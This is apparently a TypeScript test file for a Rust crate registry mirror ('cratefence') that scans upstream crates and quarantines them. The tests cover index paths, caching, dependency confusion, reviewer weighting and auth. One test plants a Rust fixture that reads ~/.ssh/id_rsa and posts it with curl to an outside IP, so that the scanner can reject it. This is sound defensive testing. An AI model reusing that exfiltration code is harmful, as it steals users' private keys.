/**
 * The registry face of `serve` over HTTP, without cargo (test/serve-mirror-cargo.test.ts drives the
 * real cargo): index paths, validators, the upstream copy's freshness and outages, first sight of a
 * crate with many versions, versions published here, private crates, the dependents graph read from
 * the served index, and who may read the registry routes.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import path from 'node:path';
import { ScanPool } from '../src/runner/index.js';
import { RegistryClient } from '../src/registry/index.js';
import { dependentWeights } from '../src/serve/dependents.js';
import { createUser } from '../src/serve/auth.js';
import { startRegistryServer, type RegistryServer } from './helpers/registry-server.js';
import { startRig, suiteDir, type ServeRig } from './helpers/serve.js';
import { crateEntries, makeTar } from './helpers/tarball.js';

const tmp = suiteDir('cf-mirror-');
let upstream: RegistryServer;
let pool: ScanPool;
const rigs: ServeRig[] = [];

const OLD = '2026-03-01T00:00:00Z';
const NEW = '2026-11-30T20:00:00Z';
const LIB = '/// Adds two numbers.\npub fn add(a: u64, b: u64) -> u64 {\n    a.wrapping_add(b)\n}\n';
const LIB_NET = `${LIB}\n/// Sends a sum to a collector the caller names.\npub fn report(addr: &str, v: u64) -> std::io::Result<()> {\n    use std::io::Write;\n    let mut s = std::net::TcpStream::connect(addr)?;\n    s.write_all(&v.to_le_bytes())\n}\n`;

const client = () => new RegistryClient({ index: upstream.indexUrl, cargoHome: false, cacheDir: false, retries: 0, rememberUnreachable: false });
async function rig(name: string, policy: Record<string, unknown> = {}, users: Parameters<typeof startRig>[1]['users'] = [['admin', 'admin']]): Promise<ServeRig> {
  const r = await startRig(path.join(tmp.dir, name), { pool, users, policy: { 'rate-limit-per-address-per-minute': 100_000, ...policy }, upstream: client() });
  rigs.push(r);
  return r;
}
const lines = (text: string) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>);
async function index(r: ServeRig, p: string, headers: Record<string, string> = {}) {
  const res = await fetch(`${r.base}/index/${p}`, { headers });
  return { status: res.status, etag: res.headers.get('etag'), text: await res.text() };
}

beforeAll(async () => {
  upstream = await startRegistryServer();
  pool = new ScanPool({ threads: 1 });
});

afterAll(async () => {
  for (const r of rigs) await r.close();
  await pool.close();
  await upstream.stop();
  tmp.remove();
});

describe('the registry face of serve', () => {
  it("answers at cargo's index paths with ETags; other paths, other spellings and unknown crates are 404", async () => {
    for (const n of ['x', 'ab', 'abc', 'serde_x']) await upstream.publish(n, '1.0.0', LIB, { pubtime: OLD });
    // A hostile index line: another crate's name, a version that is no version.
    upstream.addCrate('serde_x', '2.0.0', await makeTar(crateEntries('serde_x', '2.0.0', LIB)), { pubtime: OLD, name: 'other' } as never);
    const r = await rig('paths');
    const cfg = await r.call('GET', '/index/config.json', null);
    expect(cfg.json).toEqual({ dl: `${r.base}/dl` });
    for (const p of ['1/x', '2/ab', '3/a/abc', 'se/rd/serde_x']) {
      const a = await index(r, p);
      expect(a.status, p).toBe(200);
      expect(lines(a.text)[0]).toMatchObject({ vers: '1.0.0', yanked: false, pubtime: '2026-03-01T00:00:00Z' });
    }
    const sx = lines((await index(r, 'se/rd/serde_x')).text);
    expect(sx.map((l) => [l.name, l.vers, l.yanked])).toEqual([['serde_x', '1.0.0', false], ['other', '2.0.0', true]]);
    expect(r.svc.releases.status('other', '2.0.0')).toBeNull();
    for (const p of ['ab/cd/serde_x', 'se/rd/Serde_x', '3/b/abc', '2/zz', 'se/rd/serde_y']) expect((await index(r, p)).status, p).toBe(404);
    expect((await index(r, 'se/rd/serde_y')).text).toBe('cratefence: no crate named serde_y in this registry\n');
    const a = await index(r, '2/ab');
    expect(a.etag).toMatch(/^"[A-Za-z0-9_-]{43}"$/);
    expect((await index(r, '2/ab', { 'if-none-match': a.etag! })).status).toBe(304);
    // The download is the upstream's tarball, verified against the upstream index.
    const dl = await fetch(`${r.base}/dl/ab/1.0.0/download`);
    expect(dl.status).toBe(200);
    expect(createHash('sha256').update(Buffer.from(await dl.arrayBuffer())).digest('hex')).toBe(lines(a.text)[0].cksum);
    expect((await r.call('GET', '/dl/ab/9.9.9/download', null)).status).toBe(404);
    expect((await r.call('GET', '/dl/ab/1.0/download', null)).status).toBe(422);
  });

  it('keeps the upstream copy with its validators: fresh within the TTL, then asked conditionally; served from the store while upstream is down', async () => {
    await upstream.publish('fresh', '1.0.0', LIB, { pubtime: OLD });
    const r = await rig('ttl', { mirror: { 'index-ttl-seconds': 60 } });
    const asked = () => upstream.requestsTo('/index/fr/es/fresh');
    expect((await index(r, 'fr/es/fresh')).status).toBe(200);
    expect((await index(r, 'fr/es/fresh')).status).toBe(200);
    expect(asked()).toHaveLength(1);
    r.clock.now = new Date(r.clock.now.getTime() + 61_000);
    await index(r, 'fr/es/fresh');
    expect(asked().map((q) => q.status)).toEqual([200, 304]);
    await upstream.publish('fresh', '1.0.1', LIB, { pubtime: NEW });
    r.clock.now = new Date(r.clock.now.getTime() + 61_000);
    const served = lines((await index(r, 'fr/es/fresh')).text);
    expect(asked().map((q) => q.status)).toEqual([200, 304, 200]);
    // Seen after the crate's first sight: scanned, not baseline, so yanked until it is released.
    expect(served.map((l) => [l.vers, l.yanked])).toEqual([['1.0.0', false], ['1.0.1', true]]);
    await r.svc.scheduler!.idle();
    await upstream.stop();
    try {
      r.clock.now = new Date(r.clock.now.getTime() + 61_000);
      const stale = await index(r, 'fr/es/fresh');
      expect(stale.status).toBe(200);
      expect(lines(stale.text).map((l) => l.vers)).toEqual(['1.0.0', '1.0.1']);
      const unknown = await index(r, 'ne/ve/never-seen');
      expect(unknown.status).toBe(502);
      expect(unknown.text).toMatch(/^cratefence: the upstream registry cannot be reached for never-seen/);
    } finally {
      await upstream.start();
    }
  });

  it('on first sight of a crate with 200 versions only the recent ones are scanned; the old ones are its baseline, the newest scanned in the background', async () => {
    for (let i = 0; i < 198; i++) await upstream.publish('big', `0.1.${i}`, LIB, { pubtime: new Date(Date.parse(OLD) + i * 60_000).toISOString() });
    await upstream.publish('big', '0.1.198', LIB, { pubtime: NEW });
    await upstream.publish('big', '0.1.199', LIB, { pubtime: NEW });
    const r = await rig('big', { 'cool-off-hours': 24 });
    const served = lines((await index(r, '3/b/big')).text);
    const origins = r.db.prepare("SELECT origin, state, COUNT(*) AS n FROM serve_releases WHERE crate_key = 'big' GROUP BY origin, state ORDER BY origin").all();
    expect(origins).toEqual([{ origin: 'baseline', state: 'released', n: 198 }, { origin: 'upstream', state: 'scanning', n: 2 }]);
    expect(r.db.prepare('SELECT COUNT(*) AS n, SUM(background) AS bg FROM serve_scan_queue').get()).toEqual({ n: 3, bg: 1 });
    expect(served.filter((l) => l.yanked).map((l) => l.vers)).toEqual(['0.1.198', '0.1.199']);
    expect(served[5].pubtime).toBe(new Date(Date.parse(OLD) + 5 * 60_000).toISOString().replace('.000Z', 'Z'));
    await r.svc.scheduler!.idle();
    const bg = r.svc.releases.view(r.svc.releases.status('big', '0.1.197')!.id);
    expect(bg).toMatchObject({ state: 'released', origin: 'baseline', baseVersion: '0.1.196', verdict: 'pass' });
    const next = r.svc.releases.view(r.svc.releases.status('big', '0.1.199')!.id);
    expect(next).toMatchObject({ state: 'cooling-off', origin: 'upstream', baseVersion: '0.1.197' });
    expect(upstream.requestsTo('/dl/big/')).toHaveLength(4);
    r.coolOff(25);
    const after = lines((await index(r, '3/b/big')).text);
    expect(after.filter((l) => l.yanked)).toEqual([]);
    // pubtime is when the service released it, so cargo's min-publish-age counts from here.
    expect(after.at(-1)!.pubtime).toBe(r.clock.now.toISOString().replace('.000Z', 'Z'));
  }, 60_000);

  it('a background scan that finds a payload in a baseline version rejects it; a scan whose tarball cannot be fetched waits, uncounted', async () => {
    const payload = `${LIB}\npub fn sync() {\n    let home = std::env::var("HOME").unwrap_or_default();\n    let key = std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default();\n    let _ = std::process::Command::new("curl").arg("-d").arg(key).arg("http://203.0.113.9/k").status();\n}\n`;
    await upstream.publish('olden', '1.0.0', LIB, { pubtime: OLD });
    await upstream.publish('olden', '1.0.1', payload, { pubtime: OLD });
    await upstream.publish('flaky', '1.0.0', LIB, { pubtime: OLD });
    await upstream.publish('flaky', '1.1.0', LIB, { pubtime: NEW });
    const r = await rig('background');
    expect(lines((await index(r, 'ol/de/olden')).text).map((l) => l.yanked)).toEqual([false, false]);
    await r.svc.scheduler!.idle();
    const v = r.svc.releases.view(r.svc.releases.status('olden', '1.0.1')!.id);
    expect(v).toMatchObject({ state: 'rejected', origin: 'baseline', baseVersion: '1.0.0', verdict: 'block' });
    expect(lines((await index(r, 'ol/de/olden')).text).map((l) => l.yanked)).toEqual([false, true]);
    const feed = (await r.call('GET', '/v1/alerts', null)).json.items.map((i: any) => i._cratefence);
    expect(feed.find((e: any) => e.crate === 'olden')).toMatchObject({ event: 'rejected', version: '1.0.1', background: true });
    // The upstream's downloads fail: the scan of flaky 1.1.0 waits instead of being rejected.
    upstream.failure = { kind: 'reset', path: /^\/dl\/flaky\// };
    try {
      await index(r, 'fl/ak/flaky');
      await r.svc.scheduler!.idle();
      const id = r.svc.releases.status('flaky', '1.1.0')!.id;
      expect(r.svc.releases.view(id).state).toBe('scanning');
      expect(r.db.prepare('SELECT attempts, not_before FROM serve_scan_queue WHERE release_id = ?').get(id)).toEqual({ attempts: 0, not_before: new Date(r.clock.now.getTime() + 30_000).toISOString() });
      expect((await r.call('GET', '/dl/flaky/1.1.0/download', null)).status).toBe(403);
    } finally {
      upstream.failure = null;
    }
    r.clock.now = new Date(r.clock.now.getTime() + 31_000);
    r.svc.scheduler!.kick();
    await r.svc.scheduler!.idle();
    expect(r.svc.releases.view(r.svc.releases.status('flaky', '1.1.0')!.id).state).toBe('cooling-off');
  }, 60_000);

  it('an upstream tarball that is another crate than its index line says is rejected before a scan', async () => {
    await upstream.publish('liar', '1.0.0', LIB, { pubtime: OLD });
    upstream.addCrate('liar', '1.1.0', await makeTar(crateEntries('evil', '1.1.0', LIB)), { pubtime: NEW });
    const r = await rig('liar');
    await index(r, 'li/ar/liar');
    await r.svc.scheduler!.idle();
    const v = r.svc.releases.view(r.svc.releases.status('liar', '1.1.0')!.id);
    expect(v.state).toBe('rejected');
    expect(v.scanError).toMatch(/the upstream tarball is not liar 1\.1\.0: the \.crate's Cargo\.toml describes "evil" "1\.1\.0"/);
    const dl = await r.call('GET', '/dl/liar/1.1.0/download', null);
    expect(dl.status).toBe(410);
    expect(dl.json).toMatch(/^cratefence: liar 1\.1\.0 was rejected on .*: input: the upstream tarball is not liar 1\.1\.0/);
  });

  it('versions published here are listed with a line made from their manifest; a private crate is never looked up upstream', async () => {
    // Dependency confusion: the upstream has a higher version of the company's private crate.
    await upstream.publish('internal-tool', '9.9.9', LIB, { pubtime: OLD });
    const r = await rig('private', { mirror: { private: ['internal-*'] }, approval: { count: 1, approvers: 'any-reviewer' } }, [['admin', 'admin'], ['pub', 'publisher']]);
    const manifest = `[package]\nname = "internal-tool"\nversion = "1.0.0"\nedition = "2021"\nrust-version = "1.70"\n\n[dependencies]\ndemo = "1"\n\n[dependencies.serde]\nversion = "1.0"\noptional = true\nfeatures = ["derive"]\ndefault-features = false\n\n[dependencies.fast]\nversion = "0.3"\npackage = "fast-impl"\n\n[target.'cfg(unix)'.dependencies]\nlibc = "0.2"\n\n[dev-dependencies]\ntempfile = "3"\n\n[build-dependencies.cc]\nversion = "1"\n\n[features]\ndefault = ["std"]\nstd = []\njson = ["dep:serde"]\n`;
    const bytes = await makeTar([{ name: 'internal-tool-1.0.0/Cargo.toml', content: manifest }, { name: 'internal-tool-1.0.0/src/lib.rs', content: LIB }]);
    const pub = await r.publish(r.tokens.pub, { name: 'internal-tool', version: '1.0.0', bytes });
    expect(pub.status).toBe(202);
    const before = lines((await index(r, 'in/te/internal-tool')).text);
    expect(before.map((l) => [l.vers, l.yanked])).toEqual([['1.0.0', true]]);
    expect(upstream.requestsTo('/index/in/te/internal-tool')).toHaveLength(0);
    await r.svc.scheduler!.idle();
    // A first release with new dependencies is for a person to read: an admin approves it.
    expect(r.svc.releases.view(pub.json.id)).toMatchObject({ state: 'quarantined', origin: 'published' });
    expect((await r.call('POST', `/v1/releases/${pub.json.id}/approvals`, r.tokens.admin, { reason: 'ours' })).json.state).toBe('released');
    const [line] = lines((await index(r, 'in/te/internal-tool')).text);
    expect(line).toMatchObject({ name: 'internal-tool', vers: '1.0.0', yanked: false, cksum: createHash('sha256').update(bytes).digest('hex'), features: { default: ['std'], std: [] }, features2: { json: ['dep:serde'] }, v: 2, rust_version: '1.70', links: null });
    expect(line.pubtime).toBe(r.clock.now.toISOString().replace('.000Z', 'Z'));
    const dep = (n: string) => line.deps.find((d: any) => d.name === n);
    expect(dep('demo')).toEqual({ name: 'demo', req: '1', features: [], optional: false, default_features: true, target: null, kind: 'normal' });
    expect(dep('serde')).toMatchObject({ req: '1.0', optional: true, features: ['derive'], default_features: false });
    expect(dep('fast')).toMatchObject({ package: 'fast-impl', req: '0.3' });
    expect(dep('libc')).toMatchObject({ target: 'cfg(unix)', kind: 'normal' });
    expect(dep('tempfile')).toMatchObject({ kind: 'dev' });
    expect(dep('cc')).toMatchObject({ kind: 'build' });
    expect(upstream.requestsTo('/index/in/te/internal-tool')).toHaveLength(0);
  });

  it('a crate the upstream lists only after it was published here stays ours; a version published here never shadows an upstream crate', async () => {
    const r = await rig('confusion', { approval: { count: 1, approvers: 'any-reviewer' } }, [['admin', 'admin'], ['pub', 'publisher']]);
    const ours = { name: 'acme-secret', version: '1.0.0', bytes: await makeTar(crateEntries('acme-secret', '1.0.0', LIB)) };
    const approve = async (name: string, version: string) => {
      await r.svc.scheduler!.idle();
      const id = r.svc.releases.status(name, version)!.id;
      if (r.svc.releases.view(id).state === 'quarantined') await r.call('POST', `/v1/releases/${id}/approvals`, r.tokens.admin, { reason: 'ours' });
      else r.coolOff();
      expect(r.svc.releases.view(id).state).toBe('released');
    };
    expect((await r.publish(r.tokens.pub, ours)).status).toBe(202);
    await approve('acme-secret', '1.0.0');
    expect(lines((await index(r, 'ac/me/acme-secret')).text).map((l) => [l.vers, l.yanked])).toEqual([['1.0.0', false]]);
    // Then someone publishes the name upstream, with a higher version.
    await upstream.publish('acme-secret', '99.0.0', LIB_NET, { pubtime: new Date(r.clock.now.getTime() + 3_600_000).toISOString() });
    r.clock.now = new Date(r.clock.now.getTime() + 2 * 3_600_000);
    expect(lines((await index(r, 'ac/me/acme-secret')).text).map((l) => l.vers)).toEqual(['1.0.0']);
    expect(r.svc.releases.status('acme-secret', '99.0.0')).toBeNull();
    expect((await r.call('GET', '/dl/acme-secret/99.0.0/download', null)).status).toBe(404);
    // A publisher's version of a crate the upstream had first is not served beside the upstream's.
    await upstream.publish('popular', '1.0.0', LIB, { pubtime: OLD });
    expect((await r.publish(r.tokens.pub, { name: 'popular', version: '2.0.0', bytes: await makeTar(crateEntries('popular', '2.0.0', LIB)) })).status).toBe(202);
    await approve('popular', '2.0.0');
    expect(lines((await index(r, 'po/pu/popular')).text).map((l) => [l.vers, l.yanked])).toEqual([['1.0.0', false]]);
    const dl = await r.call('GET', '/dl/popular/2.0.0/download', null);
    expect(dl.status).toBe(403);
    expect(dl.json).toContain('is the upstream\'s crate and its index does not have this version');
  }, 60_000);

  it("takes the dependents graph from the served index, weighs 2nd and 3rd generations by half and a quarter, and shows who waits on the reviewers' page", async () => {
    await upstream.publish('core-lib', '1.0.0', LIB, { pubtime: OLD });
    await upstream.publish('core-lib', '1.1.0', LIB_NET, { pubtime: NEW });
    const dep = (name: string, req: string) => ({ name, req, kind: 'normal' });
    await upstream.publish('mid-a', '1.0.0', LIB, { pubtime: OLD, deps: [dep('core-lib', '1')] });
    await upstream.publish('mid-b', '1.0.0', LIB, { pubtime: OLD, deps: [dep('core-lib', '=1.0.0')] });
    await upstream.publish('top-1', '1.0.0', LIB, { pubtime: OLD, deps: [dep('mid-a', '1')] });
    await upstream.publish('top-2', '1.0.0', LIB, { pubtime: OLD, deps: [dep('mid-a', '1'), { name: 'core-lib', req: '1', kind: 'dev' }] });
    await upstream.publish('leaf', '1.0.0', LIB, { pubtime: OLD, deps: [dep('top-1', '1')] });
    await upstream.publish('leaf2', '1.0.0', LIB, { pubtime: OLD, deps: [dep('leaf', '1')] });
    const r = await rig('graph', { approval: { mode: 'weighted', share: 0.5 }, reviewers: 1 }, [['admin', 'admin'], ['alice', 'reviewer'], ['bob', 'reviewer']]);
    for (const [c, o] of [['mid-a', 'alice'], ['mid-b', 'bob']]) expect((await r.call('PUT', `/v1/crates/${c}/owners`, r.tokens.admin, { owners: [o] })).status).toBe(200);
    for (const p of ['co/re/core-lib', 'mi/d-/mid-a', 'mi/d-/mid-b', 'to/p-/top-1', 'to/p-/top-2', 'le/af/leaf', 'le/af/leaf2']) expect((await index(r, p)).status, p).toBe(200);
    // mid-a: itself 1, direct dependents top-1 and top-2 (2), leaf at half (0.5), leaf2 at a quarter (0.25).
    const ids = (n: string) => (r.db.prepare('SELECT id FROM serve_users WHERE name = ?').get(n) as { id: number }).id;
    expect(Object.fromEntries([...dependentWeights(r.db, 'core_lib')].map(([k, v]) => [k === ids('alice') ? 'alice' : 'bob', v]))).toEqual({ alice: 3.75, bob: 1 });
    await r.svc.scheduler!.idle();
    const id = r.svc.releases.status('core-lib', '1.1.0')!.id;
    const v = (await r.call('GET', `/v1/releases/${id}`, r.tokens.admin)).json.release;
    expect(v).toMatchObject({ state: 'quarantined', origin: 'upstream', approval: { mode: 'weighted', totalWeight: 4.75 } });
    const page = await fetch(`${r.base}/ui/queue`, { headers: { cookie: `cf_session=${r.tokens.alice}` } });
    const html = await page.text();
    expect(html).toContain('Dependents waiting');
    // mid-a's requirement (1) admits 1.1.0; mid-b's (=1.0.0) does not; top-2's is a dev-dependency.
    expect(html).toMatch(/<span class="ui-code">mid-a<\/span> <span class="ui-muted">1<\/span> — alice/);
    expect(html).not.toContain('<span class="ui-code">mid-b</span>');
    const one = await (await fetch(`${r.base}/ui/releases/${id}`, { headers: { cookie: `cf_session=${r.tokens.alice}` } })).text();
    expect(one).toMatch(/Dependents waiting for it:.*<span class="ui-code">mid-a<\/span>/s);
    const held = await r.call('GET', '/dl/core-lib/1.1.0/download', null);
    expect(held.status).toBe(403);
    expect(held.json).toMatch(/^cratefence: core-lib 1\.1\.0 is quarantined until reviewers approve it \(scan verdict review, score 48\/100: network-new-use at src\/lib.rs:\d+\)\n$/);
    // alice alone (3.75 of 4.75) meets the 0.5 share.
    expect((await r.call('POST', `/v1/releases/${id}/approvals`, r.tokens.alice, { reason: 'read it' })).json.state).toBe('released');
  }, 60_000);

  it('with auth-required, only user and reader tokens read the registry (as cargo sends them, or as Bearer)', async () => {
    await upstream.publish('guarded', '1.0.0', LIB, { pubtime: OLD });
    const r = await rig('auth', { mirror: { 'auth-required': true }, 'public-url': 'https://fence.example.com' }, [['admin', 'admin'], ['pub', 'publisher'], ['rev', 'reviewer']]);
    const reader = (await r.call('POST', '/v1/readers', r.tokens.admin, { name: 'laptop' })).json.token as string;
    expect((await r.call('POST', '/v1/readers', r.tokens.admin, { name: 'laptop' })).status).toBe(409);
    expect((await r.call('POST', '/v1/readers', r.tokens.rev, { name: 'x' })).status).toBe(403);
    const other = createUser(r.db, 'late', 'publisher').token;
    for (const p of ['/index/config.json', '/index/gu/ar/guarded', '/dl/guarded/1.0.0/download']) {
      const anon = await fetch(r.base + p);
      expect(anon.status, p).toBe(401);
      expect(anon.headers.get('www-authenticate')).toBe('Cargo login_url="https://fence.example.com/"');
      expect((await fetch(r.base + p, { headers: { authorization: `cf_${'A'.repeat(43)}` } })).status, p).toBe(401);
      for (const auth of [reader, `Bearer ${reader}`, r.tokens.pub, `Bearer ${other}`]) expect((await fetch(r.base + p, { headers: { authorization: auth } })).status, `${p} ${auth.slice(0, 9)}`).toBe(200);
    }
    expect((await r.call('GET', '/index/config.json', null, undefined, undefined, { authorization: reader })).json).toEqual({ dl: 'https://fence.example.com/dl', 'auth-required': true });
    // A reader's token is no API token.
    expect((await r.call('GET', '/v1/me', reader)).status).toBe(401);
  });
});
